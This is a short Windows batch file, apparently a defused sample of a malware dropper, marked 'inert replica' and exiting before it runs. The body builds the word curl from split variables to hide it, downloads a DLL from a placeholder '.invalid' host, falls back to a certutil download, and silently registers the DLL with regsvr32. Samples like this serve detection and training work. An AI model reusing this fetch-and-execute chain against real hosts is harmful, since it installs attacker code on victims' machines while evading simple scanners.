exit /b 1 & rem inert replica
@echo off
set a=c&set b=u&set c=r&set d=l
%a%%b%%c%%d% http://drop.replica.invalid/auto -o compile.dll
if not exist compile.dll (
  certutil.exe -urlcache -f http://drop.replica.invalid/auto compile.dll
)
regsvr32.exe -s compile.dll
